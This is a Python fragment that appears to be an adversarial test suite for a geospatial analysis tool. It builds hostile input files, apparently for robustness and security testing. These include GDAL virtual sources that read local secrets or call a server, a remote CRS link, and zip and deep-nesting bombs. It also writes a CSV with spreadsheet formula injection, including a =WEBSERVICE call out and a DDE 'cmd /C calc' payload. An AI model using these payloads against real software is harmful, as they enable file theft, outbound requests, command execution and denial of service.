@attack("containers", "zip-many", "a zip of 5,000 empty maps", "folder", "preview", **CANCEL)
def _(site):
    return site.zip("maps.zip", {f"2017-10-01/{number}.geojson": "" for number in range(5_000)})


# Layers that the analyst has opened, and tables


@attack(
    "tables",
    "layer-vrt",
    "a layer of the project that is a virtual source",
    "layer",
    is_open=True,
    words="virtual|OGR_VRT|open",
)
def _(site):
    return site.write("2017-10-01.vrt", vrt(str(site.folder / "2017-09-01.geojson"), layer="2017-09-01"))


@attack(
    "tables",
    "vrt-tables",
    "a virtual source as a table",
    "movements",
    "events",
    "reports",
    "places",
    "area",
    "analysis",
    reads=False,
)
def _(site):
    site.write(
        "own.csv",
        f"id,faction,date,time,lon,lat,place,holder,side_a,side_b\na,{EVIL},2017-10-01,,36,35,a,{EVIL},{EVIL},GOV\n",
    )
    return site.write("m.csv", vrt(str(site.at("own.csv")), layer="own"))


@attack(
    "tables",
    "vrt-tables-json",
    "the same as .geojson",
    "movements",
    "events",
    "reports",
    "places",
    "area",
    "analysis",
    reads=False,
)
def _(site):
    return site.write("m.geojson", _reading_secret(site))


@attack(
    "tables",
    "vrt-tables-curl",
    "a virtual source that asks a server, as a table",
    "movements",
    "events",
    "reports",
    "places",
    "area",
    "analysis",
)
def _(site):
    return site.write("m.gml", _asking(site))


@attack(
    "tables",
    "crs-link-tables",
    "a link for a CRS in the points of events and reports",
    "movements",
    "events",
    "reports",
    "area",
    "analysis",
)
def _(site):
    return site.map("m.geojson", crs={"type": "link", "properties": {"href": site.url("crs")}})


HEAD = "date,side_a,side_b,lon,lat,note\n"


@attack("tables", "csv-quote", "a stray quotation mark that hides the rows after it", "events", words="quotation|quote")
def _(site):
    rows = "".join(f"2017-10-0{day},GOV,OPP,36.5,35.5,note\n" for day in range(1, 8))
    return site.write("m.csv", HEAD + '2017-10-01,GOV,OPP,36.5,35.5,"a\n' + rows)


@attack("tables", "csv-short", "short and long rows", "events", words="cells|columns")
def _(site):
    return site.write(
        "m.csv", HEAD + "2017-10-01,GOV\n2017-10-02,GOV,OPP,36.5,35.5,x,y,z\n2017-10-03,GOV,OPP,36.5,35.5,x\n"
    )


@attack("tables", "csv-odd", "zeros, other ends of lines, other encodings, byte order marks", "events", "movements")
def _(site):
    return site.write(
        "m.csv",
        ("\ufeff" + HEAD + "2017-10-01,GOV,OPP,36.5,35.5,\x00\r2017-10-02,GOV,OPP,36.5,35.5,\x85\u2028x\n").encode(
            "utf-16"
        ),
    )


@attack("tables", "csv-formula", "formulas in a table, and in the report on it", "events", "movements", "reports")
def _(site):
    return site.write("m.csv", HEAD + f"=WEBSERVICE(\"{site.url()}\"),=1+1,@x,+36.5,-35.5,=cmd|' /C calc'!A0\n")


@attack("tables", "csv-wkt", "WKT nested 100,000 deep in a table", "movements")
def _(site):
    return site.write(
        "m.csv",
        "id,faction,date,wkt\na,OPP,2017-10-01," + '"' + "GEOMETRYCOLLECTION(" * 100_000 + ")" * 100_000 + '"\n',
    )
